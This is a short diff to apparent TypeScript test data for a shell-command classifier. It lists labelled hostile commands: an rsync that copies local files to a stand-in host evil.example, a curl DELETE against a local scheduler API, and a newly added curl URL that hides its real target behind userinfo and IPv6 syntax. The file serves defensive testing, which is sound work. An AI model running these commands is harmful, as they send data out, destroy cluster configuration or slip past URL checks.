@@ -99,6 +99,7 @@ const DOORS: readonly Door[] = [
       ["destroy", "rsync -a /tmp/x evil.example:/x"],
       ["destroy", "tar tf evil.example:/x"],
       ["foreign", "ping -c 1 /x"],
+      ["hidden", "curl http://127.0.0.1:80@[fe80::9]/"],
       ["hidden", "curl -L -X DELETE http://127.0.0.1:2379/pd/api/v1/schedulers/x"],
     ],
     nearMisses: [
